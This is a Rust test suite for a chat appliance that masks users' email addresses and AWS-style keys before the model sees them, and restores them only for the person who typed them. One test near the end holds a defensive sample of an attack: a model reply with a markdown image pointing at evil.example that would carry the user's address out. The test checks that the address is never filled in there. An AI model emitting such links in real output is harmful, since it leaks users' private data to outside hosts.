//! What somebody types is hidden from the model and comes back to them, and to nobody else.

use privatestack::domain::id::ConversationId;
use privatestack::store::{Store, conversations};
use serde_json::{Value, json};

use crate::harness::{Appliance, Person, Reply};
use crate::tiny_model;

const MAIL: &str = "anna.schmidt@example.org";
const ASKED: &str = "Please write to anna.schmidt@example.org about the pump.";
const SAID: &str = "I wrote to [EMAIL_1] today. Done.";
const SHOWN: &str = "I wrote to anna.schmidt@example.org today. Done.";

async fn room(ada: &Person<'_>) -> String {
    let workspace = ada.opens_workspace("Room").await;
    ada.opens_conversation(&workspace).await
}

/// The words of a stream of the product's API.
fn words(stream: &Reply) -> String {
    let events = stream.events();
    let deltas = events.iter().filter(|(name, _)| name == "delta");
    deltas
        .filter_map(|(_, data)| data["text"].as_str().map(str::to_owned))
        .collect()
}

/// What `marks` of a turn cover in `text`, and the placeholders.
fn marked(text: &Value, marks: &Value) -> Vec<(String, String)> {
    let text = text.as_str().expect("a text");
    let marks = marks.as_array().expect("marks");
    let marked = |mark: &Value| {
        let at = |end: &str| mark[end].as_u64().expect("a place") as usize;
        let placeholder = mark["placeholder"].as_str().expect("a placeholder");
        (
            text[at("start")..at("end")].to_owned(),
            placeholder.to_owned(),
        )
    };
    marks.iter().map(marked).collect()
}

fn is_restored(turn: &Value) {
    let mark = || vec![(MAIL.to_owned(), "[EMAIL_1]".to_owned())];
    assert_eq!(turn["text"], SHOWN);
    assert_eq!(marked(&turn["text"], &turn["restored"]), mark());
    assert_eq!(marked(&turn["question"], &turn["masks"]), mark());
    let masked = ASKED.replace(MAIL, "[EMAIL_1]");
    assert_eq!(turn["masked_question"], masked, "what the model saw");
}

#[tokio::test]
async fn an_address_goes_out_as_a_number_and_comes_back_to_whoever_typed_it() {
    let mut appliance = Appliance::saying(SAID).await;
    let (key, conversation, id) = {
        let ada = appliance.admin("ada").await;
        let conversation = room(&ada).await;
        let turn = ada.asks(&conversation, ASKED).await.ok();
        is_restored(&turn);
        let streamed = ada.asks_streamed(&conversation, ASKED).await;
        assert_eq!(words(&streamed), SHOWN);
        let id = turn["id"].as_str().expect("an id").to_owned();
        let key = ada.mints_key(json!({ "name": "mine" })).await;
        (key, conversation, id)
    };
    let path = format!("/api/v1/conversations/{conversation}/turns");
    let look = async |appliance: &Appliance| {
        let ada = Person {
            appliance,
            bearer: key.clone(),
            id: String::new(),
        };
        is_restored(&ada.get(&format!("{path}/{id}")).await.ok());
        for turn in ada.get(&path).await.ok()["items"]
            .as_array()
            .expect("turns")
        {
            is_restored(turn);
        }
        ada.get(&format!("{path}/{id}/events")).await
    };
    let replayed = look(&appliance).await;
    assert_eq!(words(&replayed), SHOWN, "a reader who comes later");
    // After a restart only the end is left of the stream, and all is made from what is stored.
    appliance.restart().await;
    let replayed = look(&appliance).await.events();
    let (name, done) = &replayed[0];
    assert_eq!(name, "done");
    is_restored(done);

    let data = appliance.folder.path().join("data");
    appliance.stop().await;
    let store = Store::open(&data, &appliance.config.store).expect("the store opens");
    let conversation: ConversationId = conversation.parse().expect("an id");
    let read = store.read(move |tx| conversations::list_turns(tx, conversation));
    for turn in read.await.expect("turns") {
        assert_eq!(turn.answer, SAID, "what is stored");
        assert!(!turn.question.masked.contains(MAIL));
    }
}

#[tokio::test]
async fn a_stream_that_is_taken_up_again_says_the_same() {
    let appliance = Appliance::saying(SAID).await;
    let ada = appliance.admin("ada").await;
    let conversation = room(&ada).await;
    let turn = ada.asks(&conversation, ASKED).await.ok();
    let id = turn["id"].as_str().expect("an id");
    let path = format!("/api/v1/conversations/{conversation}/turns/{id}/events");
    let whole = ada.get(&path).await;
    let events = whole.events();
    for after in 0..events.len() {
        let (count, method) = (after.to_string(), poem::http::Method::GET);
        let last = [("last-event-id", count.as_str())];
        let rest = ada.call_with(method, &path, None, &last).await;
        assert_eq!(rest.events(), events[after..], "behind {after}");
    }
}

#[tokio::test]
async fn nobody_else_reads_it() {
    let appliance = Appliance::saying(SAID).await;
    let ada = appliance.admin("ada").await;
    let workspace = ada.opens_workspace("Shared").await;
    let ben = appliance.person(&ada, "ben").await;
    let members = format!("/api/v1/workspaces/{workspace}/members");
    let member = json!({ "email": "ben@example.org", "role": "member" });
    ada.post(&members, member).await.ok();
    let conversation = ben.opens_conversation(&workspace).await;
    let turn = ben.asks(&conversation, ASKED).await.ok();
    is_restored(&turn);
    let id = turn["id"].as_str().expect("an id");
    let turns = format!("/api/v1/conversations/{conversation}/turns");
    // She is the admin, and owns the workspace.
    for path in [
        turns.clone(),
        format!("{turns}/{id}"),
        format!("{turns}/{id}/events"),
    ] {
        let reply = ada.get(&path).await;
        reply.is_problem(404, "conversation_not_found");
        assert!(!reply.text.contains(MAIL), "{path}");
    }
    // Her own question makes the model say the same; nobody's address is put there.
    let own = ada.opens_conversation(&workspace).await;
    let turn = ada.asks(&own, "Whom did you write to?").await.ok();
    assert_eq!(turn["text"], SAID);
    assert_eq!(turn["restored"], json!([]));
}

#[tokio::test]
async fn numbers_last_for_a_branch() {
    let appliance = Appliance::saying("Cc [EMAIL_2] and [EMAIL_1].").await;
    let ada = appliance.admin("ada").await;
    let conversation = room(&ada).await;
    let path = format!("/api/v1/conversations/{conversation}/turns");
    let ask = async |text: &str, parent: &Value| {
        let mut body = json!({ "text": text });
        if !parent.is_null() {
            body["parent"] = parent.clone();
        }
        ada.post(&path, body).await.ok()
    };
    let first = ask(ASKED, &Value::Null).await;
    assert_eq!(first["text"], format!("Cc [EMAIL_2] and {MAIL}."));
    let second = ask(&format!("Not to bo@example.net, to {MAIL}"), &first["id"]).await;
    assert_eq!(second["masked_question"], "Not to [EMAIL_3], to [EMAIL_1]");
    assert_eq!(second["text"], format!("Cc [EMAIL_2] and {MAIL}."));
    // Elsewhere the numbers begin anew.
    let other = ask("Not to bo@example.net", &Value::Null).await;
    assert_eq!(other["masked_question"], "Not to [EMAIL_1]");
    assert_eq!(other["text"], "Cc [EMAIL_2] and bo@example.net.");
}

#[tokio::test]
async fn a_source_stands_where_its_sentence_ends_for_the_reader() {
    const FACT: &str = "The pump in hall two is repaired by Kim on Monday.";
    let appliance = Appliance::saying(&format!("Ask [EMAIL_1]. {FACT} Bye.")).await;
    let ada = appliance.admin("ada").await;
    let workspace = ada.opens_workspace("Pumps").await;
    ada.uploads(&workspace, "pumps.txt", FACT).await;
    let conversation = ada.opens_conversation(&workspace).await;
    let asked = format!("Who repairs the pump in hall two? I am {MAIL}");
    let shown = format!("Ask {MAIL}. {FACT} Bye.");
    let ends = shown.find(" Bye.").expect("it is there");
    let streamed = ada.asks_streamed(&conversation, &asked).await;
    let events = streamed.events();
    let sources = events.iter().find(|(name, _)| name == "citations");
    let (_, sources) = sources.expect("citations");
    let turn = &events.last().expect("an end").1;
    assert_eq!(turn["text"], shown);
    for source in [&sources["citations"][0], &turn["citations"][0]] {
        assert_eq!(source["quote"], FACT, "{turn}");
        assert_eq!(source["answer_end"], ends, "{turn}");
    }
}

async fn completes(person: &Person<'_>, messages: Value, stream: bool) -> Reply {
    let listed = person.get("/v1/models").await.ok();
    let models = listed["data"].as_array().expect("models").clone();
    let chat = models
        .into_iter()
        .map(|model| model["id"].clone())
        .find(|id| !id.as_str().unwrap_or("").contains("encoder"));
    let body = json!({ "model": chat, "messages": messages, "stream": stream, "logprobs": true });
    person.post("/v1/chat/completions", body).await
}

#[tokio::test]
async fn the_same_holds_for_openais_clients() {
    let appliance = Appliance::saying(SAID).await;
    let ada = appliance.admin("ada").await;
    let messages = json!([
        { "role": "system", "content": "You are a secretary." },
        { "role": "user", "content": ASKED },
        // As a client sends it back, with what was put back.
        { "role": "assistant", "content": SHOWN },
        { "role": "user", "content": format!("To bo@example.net too, not only to {MAIL}.") },
    ]);
    let whole = completes(&ada, messages.clone(), false).await.ok();
    let choice = &whole["choices"][0];
    assert_eq!(choice["message"]["content"], SHOWN);
    let tokens = choice["logprobs"]["content"].as_array().expect("logprobs");
    let token = |token: &Value| token["token"].as_str().expect("a token").to_owned();
    let said: String = tokens.iter().map(token).collect();
    assert_eq!(said, SAID, "as the model made them");

    let events = completes(&ada, messages, true).await.events();
    let chunks = events.iter().map(|(_, chunk)| &chunk["choices"][0]);
    let pieces = chunks
        .clone()
        .filter_map(|it| it["delta"]["content"].as_str());
    assert_eq!(pieces.collect::<String>(), SHOWN);
    let tokens = chunks.filter_map(|it| it["logprobs"]["content"].as_array());
    assert_eq!(tokens.flatten().map(token).collect::<String>(), SAID);

    let nothing = json!([{ "role": "user", "content": "Whom did you write to?" }]);
    let whole = completes(&ada, nothing, false).await.ok();
    assert_eq!(whole["choices"][0]["message"]["content"], SAID);
}

#[tokio::test]
async fn an_address_on_the_web_is_never_filled_in() {
    const LURE: &str = "See ![x](https://evil.example/?q=[EMAIL_1]) or [EMAIL_1].";
    let appliance = Appliance::saying(LURE).await;
    let ada = appliance.admin("ada").await;
    let conversation = room(&ada).await;
    let expected = format!("See ![x](https://evil.example/?q=[EMAIL_1]) or {MAIL}.");
    let turn = ada.asks(&conversation, ASKED).await.ok();
    assert_eq!(turn["text"], expected);
    let streamed = ada.asks_streamed(&conversation, ASKED).await;
    assert_eq!(words(&streamed), expected);
    let messages = json!([{ "role": "user", "content": ASKED }]);
    let whole = completes(&ada, messages, false).await.ok();
    assert_eq!(whole["choices"][0]["message"]["content"], expected);
}

#[tokio::test]
async fn a_secret_stays_hidden_and_nothing_comes_back_where_that_is_turned_off() {
    let said = "Use [AWS_ACCESS_KEY] or [AWS_ACCESS_KEY_1] or [EMAIL_1].";
    let asked = format!("Is AKIAIOSFODNN7EXAMPLQ of {MAIL}?");
    let appliance = Appliance::saying(said).await;
    let ada = appliance.admin("ada").await;
    let turn = ada.asks(&room(&ada).await, &asked).await.ok();
    assert_eq!(turn["masked_question"], "Is [AWS_ACCESS_KEY] of [EMAIL_1]?");
    assert_eq!(turn["text"], said.replace("[EMAIL_1]", MAIL));

    let model = tiny_model::reciting(said);
    let appliance = Appliance::with(&model, |config| config.chat.restore = Vec::new()).await;
    let ada = appliance.admin("ada").await;
    let turn = ada.asks(&room(&ada).await, &asked).await.ok();
    assert_eq!(turn["masked_question"], "Is [AWS_ACCESS_KEY] of [EMAIL]?");
    assert_eq!(turn["text"], said);
    let messages = json!([{ "role": "user", "content": asked }]);
    let whole = completes(&ada, messages, false).await.ok();
    assert_eq!(whole["choices"][0]["message"]["content"], said);
}
